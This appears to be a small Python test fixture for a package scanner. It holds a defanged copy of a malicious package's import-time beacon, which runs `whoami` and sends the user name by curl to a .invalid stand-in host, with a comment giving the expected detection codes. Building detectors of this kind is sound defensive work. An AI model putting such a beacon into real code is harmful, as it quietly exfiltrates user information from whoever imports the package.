# Defanged replica of newdontinstallthistest's beacon, run at import: the
# user name comes from the output of `whoami` rather than from getpass, and
# goes out in a curl query string. The host is .invalid.
import os
from urllib.parse import quote_plus

user = quote_plus(os.popen("whoami").read())
os.system("curl https://beacon.example.invalid/?u=" + user)  # expect: HS113 medium, HS114 high
